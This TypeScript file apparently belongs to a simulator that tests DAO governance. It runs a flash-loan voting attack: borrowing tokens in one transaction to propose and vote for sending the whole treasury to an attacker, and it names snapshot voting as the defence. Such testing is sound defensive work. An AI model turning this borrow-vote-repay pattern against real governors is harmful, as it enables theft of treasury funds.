import { FlashLender, FlashVoter } from '../../../../../contracts/bindings/index.js';
import { encodeCall } from '../../../../chain/index.js';
import { parseTokens } from '../../../../scenario/index.js';
import { protocolIn } from '../../../execution/life/governor-protocol.js';
import type { AttackSession, ContractAt } from '../../session/attack-session.js';
import type { AttackContext } from '../attack-context.js';
import type { DaoAttackDefinition, DaoAttackOutcome } from '../dao-attack-definition.js';
import { HostileProposal } from '../hostile-proposal.js';
import { gatherTokens } from '../market/gather-tokens.js';
import { type TransferEnd, WHY_IT_ENDED } from '../treasury-transfer.js';
import { tokensToWin } from '../votes/tokens-to-win.js';
import { amountOf, inDollars } from '../words.js';

const BPS_PER_PERCENT = 100;

/** Borrows tokens for one transaction, and votes in it. */
export const flashLoanedVotes: DaoAttackDefinition = {
  title: 'Flash-loaned votes',
  defence: 'Votes from a snapshot in the past, and a voting delay of at least a block.',
  run,
};

async function run(context: AttackContext, session: AttackSession): Promise<DaoAttackOutcome> {
  const { loaded, token, unit, defenders } = context;
  const { lendableTokens, flashFeePercent, priceUsd } = loaded.dao.market;
  const lendable = parseTokens(lendableTokens) / (10n ** 18n / unit);
  const needed = tokensToWin(context) ?? context.quorum;
  const feeBps = BigInt(Math.ceil(flashFeePercent * BPS_PER_PERCENT));
  const lender = await session.deploy(FlashLender, [feeBps]);
  const amount = await gatherTokens(context, session, lendable > 0n ? lendable : needed, lender.address);
  const voter = await session.deploy(FlashVoter, [lender.address, token.address]);
  const fee = await session.read(lender, 'flashFee', [token.address, amount]);
  await gatherTokens(context, session, fee, voter.address);
  const { end, weight } = await borrowAndVote(context, session, voter, amount);
  const usd = (Number(fee) / Number(unit)) * priceUsd;
  const none = lendable === 0n ? ' (Nobody lends this token, says the market: it was lent for the try.)' : '';
  return {
    sentence: `Borrow ${amountOf(context, amount)} for one transaction, delegate, and propose or vote in it, against ${defenders.length} usual voters.`,
    outcome: end !== 'executed' ? 'fails' : lendable > 0n ? 'succeeds' : 'impossible',
    evidence: 'chain',
    cost: [{ what: `Fee of the loan, ${flashFeePercent} %`, usd }],
    votesNeeded: needed,
    why:
      (end === 'executed'
        ? `Borrowed votes counted, for a fee of ${inDollars(usd)}.`
        : weight === 0n && end === 'defeated'
          ? 'The borrowed tokens weighed nothing: the governor counts what was held at a snapshot in the past.'
          : WHY_IT_ENDED[end]) + none,
  };
}

async function borrowAndVote(
  context: AttackContext,
  session: AttackSession,
  voter: ContractAt<typeof FlashVoter>,
  amount: bigint,
): Promise<{ readonly end: TransferEnd; readonly weight: bigint }> {
  const { loaded, attacker, defenders, drain } = context;
  const proposing = protocolIn(loaded).propose(drain, 'taken with borrowed votes');
  const what = `borrows ${amountOf(context, amount)} and tries to propose in the same transaction`;
  await session.transact('attacker', what, attacker, voter, 'borrowAndCall', [amount, loaded.governor, proposing]);
  const proposal = await HostileProposal.make({
    loaded,
    session,
    calls: drain,
    description: 'send the whole treasury to the attacker',
    author: null,
    who: 'attacker',
  });
  if (proposal === null) return { end: 'notProposed', weight: 0n };
  await loaded.chain.admit([attacker]);
  const data = encodeCall(FlashVoter, 'borrowAndCall', [amount, loaded.governor, proposal.voteData('for')]);
  const weight = await proposal.send(
    'attacker',
    `borrows ${amountOf(context, amount)}, delegates, votes and repays in one transaction`,
    proposal.firstMoment,
    [{ from: attacker, to: voter.address, data }],
  );
  session.tell('governor', `counts ${amountOf(context, weight)} for it`);
  const against = defenders.map(({ address }) => address);
  await proposal.vote('usual voters', `${against.length} vote Against`, against, 'against');
  if (!(await proposal.close())) return { end: 'defeated', weight };
  return { end: (await proposal.carryOut('attacker', true)) ? 'executed' : 'stopped', weight };
}
